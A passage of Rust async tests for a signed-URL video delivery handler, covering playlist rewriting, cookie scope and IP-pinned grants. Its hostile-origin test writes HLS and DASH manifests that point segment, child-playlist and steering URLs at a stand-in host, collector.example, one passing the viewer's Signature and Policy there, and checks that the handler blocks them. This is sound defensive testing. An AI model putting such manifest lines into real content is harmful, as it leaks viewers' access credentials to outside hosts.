    let ip = Some("203.0.113.9".parse().unwrap());
    let issued = verify_request(&segment, &pairs, &trusted(), NOW + 1, ip).unwrap();
    assert_eq!(
        issued.policy().resource(),
        format!("https://{DIST}/videos/*")
    );
    assert!(issued.policy().expires() <= NOW + 900);
    assert_eq!(issued.policy().ip_range(), pinned.ip_range());
    let elsewhere = Some("198.51.100.1".parse().unwrap());
    assert!(verify_request(&segment, &pairs, &trusted(), NOW + 1, elsewhere).is_err());
    let outside = format!("https://{DIST}/other/segment-00000.ts");
    assert!(verify_request(&outside, &pairs, &trusted(), NOW + 1, ip).is_err());

    // Asked for by a viewer whose grant is one URL: cookies over the tree
    // would widen it, so the playlist is rewritten and no cookie is set.
    let (response, log) = run(&h, canned_delivery_event(path, "hls-delivery=cookies")).await;
    assert_eq!(response["statusCode"], 200, "{log:?}");
    assert_eq!(log.delivery, "rewrite");
    assert_eq!(log.delivery_fallback, Some("cookies_would_widen"));
    assert!(cookies_of(&response).is_empty());
    assert!(response["body"].as_str().unwrap().contains("Signature="));

    // Configured for the distribution (the operator's opt-in): the tree,
    // even for a grant on one URL, never past its expiry.
    let h = handler(
        json!({"delivery": "cookies", "cookie_same_site": "None", "cookie_domain": "example.com"}),
        Some(&origin),
    )
    .await;
    let (response, log) = run(&h, delivery_event(path, &grant_for(path), "")).await;
    assert_eq!(log.delivery, "cookies", "{log:?}");
    let cookies = cookies_of(&response);
    assert!(
        cookies[0]
            .ends_with("; Domain=example.com; Path=/videos/; Secure; HttpOnly; SameSite=None"),
        "{cookies:?}"
    );
    assert_eq!(response["body"].as_str().unwrap(), original);
}

#[tokio::test]
async fn query_delivery_never_hands_the_viewers_grant_to_a_url_the_manifest_chose() {
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("handler-hostile-origin");
    std::fs::create_dir_all(dir.join("u")).unwrap();
    // A playlist that would receive the viewer's signature on its own host.
    std::fs::write(
        dir.join("u/index.m3u8"),
        "#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\nseg-1.ts\n\
         #EXTINF:4,\nhttps://collector.example/x.ts?s={$Signature}&p={$Policy}\n",
    )
    .unwrap();
    // An MPD whose segments a player would fetch from another host, query and all.
    std::fs::write(
        dir.join("u/stream.mpd"),
        "<MPD type=\"static\" mediaPresentationDuration=\"PT8S\"><Period>\
         <BaseURL>https://collector.example/</BaseURL><AdaptationSet>\
         <Representation id=\"a\" bandwidth=\"1\"><SegmentTemplate duration=\"2\" \
         media=\"s-$Number$.m4s\"/></Representation></AdaptationSet></Period></MPD>",
    )
    .unwrap();
    let h = handler(json!({}), Some(&dir)).await;
    let grant = custom_grant("/u/*", NOW + 900);

    let (response, log) = run(
        &h,
        delivery_event("/u/index._m3u8", &grant, "hls-delivery=define"),
    )
    .await;
    // Not served at all, in any delivery: rewritten, its `{$Signature}`
    // would still be filled in from the viewer's own URL by the player.
    assert_eq!(response["statusCode"], 502, "{log:?}");
    assert!(
        log.reason.as_deref().unwrap().contains("signing parameter"),
        "{log:?}"
    );
    assert!(!response["body"]
        .as_str()
        .unwrap_or("")
        .contains("Signature"));
    for query in ["", "hls-delivery=rewrite", "hls-delivery=cookies"] {
        let (response, log) = run(&h, delivery_event("/u/index._m3u8", &grant, query)).await;
        assert_eq!(response["statusCode"], 502, "{query}: {log:?}");
    }
    // A master whose child playlist the player would load without the
    // function (another host, or not `.m3u8`) could import the variables.
    std::fs::write(
        dir.join("u/master.m3u8"),
        "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhd/index.m3u8\n\
         #EXT-X-STREAM-INF:BANDWIDTH=2\nhttps://collector.example/list.m3u8\n",
    )
    .unwrap();
    let (response, log) = run(
        &h,
        delivery_event("/u/master._m3u8", &grant, "hls-delivery=define"),
    )
    .await;
    assert_eq!(response["statusCode"], 200, "{log:?}");
    assert_eq!(log.delivery_fallback, Some("child_playlist_direct"));
    assert!(!response["body"].as_str().unwrap().contains("EXT-X-DEFINE"));
    // A URI the viewer's policy does not cover would be signed for this
    // viewer, in a manifest that is otherwise the same for every viewer.
    std::fs::write(
        dir.join("u/outside.m3u8"),
        "#EXTM3U\n#EXT-X-SESSION-KEY:METHOD=AES-128,URI=\"../keys/k.key\"\n\
         #EXT-X-STREAM-INF:BANDWIDTH=1\nhd/index.m3u8\n",
    )
    .unwrap();
    let (response, log) = run(
        &h,
        delivery_event("/u/outside._m3u8", &grant, "hls-delivery=define"),
    )
    .await;
    assert_eq!(response["statusCode"], 200, "{log:?}");
    assert_eq!(log.delivery_fallback, Some("not_all_covered"));
    assert!(!response["body"].as_str().unwrap().contains("EXT-X-DEFINE"));
    // Content steering could clone the variants onto another host.
    std::fs::write(
        dir.join("u/steered.m3u8"),
        "#EXTM3U\n#EXT-X-CONTENT-STEERING:SERVER-URI=\"https://collector.example/s\"\n\
         #EXT-X-STREAM-INF:BANDWIDTH=1\nhd/index.m3u8\n",
    )
    .unwrap();
    let (_, log) = run(
        &h,
        delivery_event("/u/steered._m3u8", &grant, "hls-delivery=define"),
    )
    .await;
    assert_eq!(log.delivery_fallback, Some("content_steering"));

    let (response, log) = run(
        &h,
        delivery_event("/u/stream._mpd", &grant, "hls-delivery=urlquery"),
    )
    .await;
    assert_eq!(response["statusCode"], 200, "{log:?}");
    assert_eq!(log.delivery_fallback, Some("foreign_host"));
    assert!(!response["body"].as_str().unwrap().contains("urlparam"));
}
